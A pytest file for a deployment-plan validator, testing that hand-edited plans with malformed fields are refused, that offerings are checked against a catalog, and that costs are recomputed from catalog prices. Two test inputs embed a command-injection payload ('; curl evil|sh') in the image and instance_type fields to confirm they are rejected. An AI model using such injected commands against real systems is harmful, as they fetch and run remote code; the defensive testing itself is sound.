"""A committed plan is untrusted input: its form is checked strictly, its offerings against the
catalog, and its costs recomputed from catalog prices."""
from __future__ import annotations

import copy
import json
import math

import pytest

from placement.catalog import load_catalog
from placement.errors import CatalogError
from placement.plan import DeploymentPlan, PlanError
from placement.plancheck import catalog_for, check_plan
from placement.types import HOURS_PER_MONTH


@pytest.fixture
def plan_dict(example_plan) -> dict:
    return copy.deepcopy(example_plan.to_dict())


def edited(plan_dict: dict, path: str, value) -> dict:
    """``plan_dict`` with ``deployments[0].<path>`` set to ``value`` (dotted; 'placement.x' reaches the choice)."""
    node = plan_dict["deployments"][0]
    *parents, key = path.split(".")
    for p in parents:
        node = node[p]
    node[key] = value
    return plan_dict


@pytest.mark.parametrize("path, value, words", [
    ("port", 8080.7, "port: must be a whole number"),
    ("port", True, "port: must be a whole number"),
    ("port", 70000, "port: must be ≤ 65535"),
    ("secrets", "abc", "secrets: must be a list"),
    ("name", 5, "name: must be a string"),
    ("name", "", "name: must be lowercase"),
    ("image", 5, "image: must be a string"),
    ("image", "nginx; curl evil|sh", "image: must match"),
    ("env", {"A": 5}, "env.A: must be a string"),
    ("env", ["A=1"], "env: must be a mapping"),
    ("placement.replicas", 1e9, "placement.replicas: must be a whole number"),
    ("placement.replicas", 10**9, "placement.replicas: must be ≤ 10000"),
    ("placement.instance_type", "c7g.large; curl evil|sh", "placement.instance_type: must match"),
    ("placement.hourly_cost_usd", float("nan"), "placement.hourly_cost_usd: must be a finite number"),
    ("placement.hourly_cost_usd", -1.0, "placement.hourly_cost_usd: must be ≥ 0"),
    ("slo_p95_latency_ms", float("inf"), "slo_p95_latency_ms: must be a finite number"),
    ("surprise", 1, "surprise: unknown key"),
])
def test_a_hand_edit_of_the_wrong_form_is_refused_naming_the_field(plan_dict, path, value, words):
    with pytest.raises(PlanError) as err:
        DeploymentPlan.from_dict(edited(plan_dict, path, value))
    assert "plan: deployments[0]" in str(err.value) and words in str(err.value), str(err.value)


def test_plan_level_mistakes_are_named(plan_dict):
    for mutate, words in [(lambda d: d.pop("catalog_version"), "catalog_version: is required"),
                          (lambda d: d["deployments"].append(copy.deepcopy(d["deployments"][0])), "duplicate name"),
                          (lambda d: d.update(schema_version=99), "schema_version 99 is not supported"),
                          (lambda d: d.update(deployments=[]), "deployments: must not be empty")]:
        broken = copy.deepcopy(plan_dict)
        mutate(broken)
        with pytest.raises(PlanError, match=words):
            DeploymentPlan.from_dict(broken)
    with pytest.raises(PlanError, match="plan: is empty"):
        DeploymentPlan.from_dict({})


def test_offerings_are_checked_against_the_catalog(plan_dict, catalog):
    for path, value, words in [("placement.region", "mars-north-1", "unknown"),
                               ("placement.instance_type", "c7g.huge", "is not offered in")]:
        plan = DeploymentPlan.from_dict(edited(copy.deepcopy(plan_dict), path, value))
        with pytest.raises(PlanError, match=words):
            check_plan(plan, catalog)


def test_costs_are_recomputed_from_catalog_prices_not_read_from_the_plan(plan_dict, catalog, example_plan):
    honest = check_plan(example_plan, catalog)
    assert honest.decisions_sha256() == example_plan.decisions_sha256()  # roost's own plans are unchanged
    d = edited(plan_dict, "placement.replicas", 60)
    d["deployments"][0]["placement"]["max_replicas"] = 90
    plan = check_plan(DeploymentPlan.from_dict(d), catalog)
    before = example_plan.deployments[0].choice
    after = plan.deployments[0].choice
    assert after.hourly_cost_usd > before.hourly_cost_usd * 10
    assert after.hourly_cost_usd == pytest.approx(before.hourly_cost_usd / before.replicas * 60, rel=0.2)
    assert math.isfinite(plan.monthly_cost_usd) and plan.monthly_cost_usd > 0
    assert plan.monthly_cost_usd == pytest.approx(sum(x.choice.hourly_cost_usd for x in plan.deployments)
                                                  * HOURS_PER_MONTH)


def test_the_catalog_a_plan_names_is_found_with_its_discounts(catalog, tmp_path):
    assert catalog_for(catalog.version).version == catalog.version
    discounted = catalog.with_discounts({"aws": 15})
    assert catalog_for(discounted.version).offerings == discounted.offerings
    with pytest.raises(CatalogError, match="ROOST_CATALOG"):
        catalog_for("custom-0000")
    doc = json.loads((load_catalog.__globals__["resources"].files("placement") / "data/catalog.json").read_text())
    doc["catalog_version"] = "mine-1"
    path = tmp_path / "catalog.json"
    path.write_text(json.dumps(doc))
    assert catalog_for("mine-1", path).version == "mine-1"
